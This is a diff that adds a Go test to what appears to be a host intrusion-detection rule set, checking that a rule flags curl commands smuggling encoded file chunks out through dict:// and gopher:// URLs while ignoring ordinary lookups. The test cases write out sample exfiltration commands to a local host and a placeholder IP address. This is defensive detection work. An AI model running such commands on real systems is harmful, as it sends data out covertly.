@@ -325,3 +325,30 @@ func TestPtraceInject(t *testing.T) {
 		t.Errorf("attachPID: %d", got)
 	}
 }
+
+// TestExfilURLChunks: encoded chunks in the address of a protocol no web
+// application speaks are a file leaving; a dictionary lookup of a word,
+// or an HTTP address with a token, is not.
+func TestExfilURLChunks(t *testing.T) {
+	chunk := strings.Repeat("H4sIAAAAAAAAA-1bW3PbthL2a", 4)
+	for _, c := range []struct {
+		uid  uint32
+		args []string
+		want Severity
+	}{
+		{0, []string{"curl", "-s", "-m", "3", "dict://127.0.0.1:2628/define:" + chunk + ":7"}, SeverityMedium},
+		{33, []string{"curl", "-s", "gopher://198.51.100.4:70/_" + chunk}, SeverityHigh},
+		{0, []string{"curl", "dict://dict.org/define:serendipity"}, 0},
+		{33, []string{"curl", "-s", "https://api.example.com/v1/x?token=" + chunk}, 0},
+	} {
+		var got Severity
+		for _, f := range execAs(t, c.uid, "/tmp", "/usr/bin/curl", c.args...) {
+			if slices.Contains(f.RuleIDs, "exfil-url-chunks") {
+				got = f.Severity
+			}
+		}
+		if got != c.want {
+			t.Errorf("%q as %d: %v, want %v", c.args[len(c.args)-1][:20], c.uid, got, c.want)
+		}
+	}
+}
